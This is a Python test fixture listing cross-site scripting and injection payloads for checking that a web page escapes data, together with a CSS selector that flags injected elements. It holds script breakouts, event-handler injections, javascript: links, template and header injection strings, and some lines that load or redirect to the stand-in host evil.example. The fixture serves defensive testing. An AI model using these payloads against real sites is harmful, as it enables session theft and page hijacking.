"""Texts that would run as script, or forge what people see, in a page that does not treat them as text."""

from __future__ import annotations

_RUN = "window.xss=1"
_SAFE = "data-xss"

PAYLOADS: tuple[str, ...] = (
    f"<script {_SAFE}>{_RUN}</script>",
    f"</script><script {_SAFE}>{_RUN}</script>",
    f"</title><script {_SAFE}>{_RUN}</script>",
    f"</textarea><script {_SAFE}>{_RUN}</script>",
    f"</style><script {_SAFE}>{_RUN}</script>",
    f"--><script {_SAFE}>{_RUN}</script><!--",
    f"]]><script {_SAFE}>{_RUN}</script>",
    f"<ScRiPt {_SAFE}>{_RUN}</sCrIpT>",
    f"<script/{_SAFE} src=//evil.example/x.js></script>",
    f"<<script {_SAFE}>{_RUN}//<</script>",
    f"<img {_SAFE} src=x onerror={_RUN}>",
    f"<img/{_SAFE}/src=x/onerror={_RUN}>",
    f'"><img {_SAFE} src=x onerror={_RUN}>',
    f"'><img {_SAFE} src=x onerror={_RUN}>",
    f"`><img {_SAFE} src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}" {_SAFE} x="',
    f"' onfocus='{_RUN}' autofocus {_SAFE} x='",
    f'" autofocus onfocus={_RUN} {_SAFE} ',
    f"<svg {_SAFE} onload={_RUN}>",
    f"<svg {_SAFE}><script>{_RUN}</script></svg>",
    f"<svg {_SAFE}><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg {_SAFE}><a xlink:href=javascript:{_RUN}><text y=9>x</text></a></svg>",
    f"<math {_SAFE}><mtext></mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></math>",
    f"<body {_SAFE} onload={_RUN}>",
    f"<iframe {_SAFE} src=javascript:{_RUN}></iframe>",
    f"<iframe {_SAFE} srcdoc='<script>parent.xss=1</script>'></iframe>",
    f"<object {_SAFE} data=javascript:{_RUN}></object>",
    f"<embed {_SAFE} src=javascript:{_RUN}>",
    f"<base {_SAFE} href=//evil.example/>",
    f"<link {_SAFE} rel=stylesheet href=//evil.example/x.css>",
    f"<meta {_SAFE} http-equiv=refresh content='0;url=//evil.example'>",
    f"<style {_SAFE}>@import '//evil.example/x.css';</style>",
    f"<form {_SAFE} action=//evil.example><button>x</button></form>",
    f"<button {_SAFE} formaction=javascript:{_RUN}>x</button>",
    f"<details {_SAFE} open ontoggle={_RUN}>x</details>",
    f"<video {_SAFE}><source onerror={_RUN}></video>",
    f"<marquee {_SAFE} onstart={_RUN}>x</marquee>",
    f"<input {_SAFE} onfocus={_RUN} autofocus>",
    f"<div {_SAFE} hx-get=/x hx-trigger=load hx-on:click={_RUN}>x</div>",
    f"<div {_SAFE} style=background:url(javascript:{_RUN})>x</div>",
    f"<template {_SAFE}><script>{_RUN}</script></template>",
    f"<a {_SAFE} href=javascript:{_RUN}>x</a>",
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](&#106;avascript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    f"![x](x onerror={_RUN})",
    f"<javascript:{_RUN}>",
    f"{{{{ self.__init__.__globals__ }}}}{{% raw %}}{_RUN}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "__proto__",
    "constructor",
    "\u202egnp.exe\u202c \u200bzero\ufeff",
    "\x1b[2J\x1b]0;title\x07 esc",
    "line one\r\nSet-Cookie: x=1",
    "&lt;script&gt;already&lt;/script&gt; &amp; &#x3c;",
    "%3Cscript%3E%253Cscript%253E",
    "\U0001f600 \u0000 nul",
)

#: Anything of these in a page was made from data.
FOREIGN_ELEMENTS = (
    "[data-xss], iframe, object, embed, marquee, base, video, math, [style*=javascript], [onerror], "
    "[onload], [onfocus], [onmouseover], a[href^='javascript:' i], a[href^='data:' i], img, "
    "[hx-get]:not(main)"
)
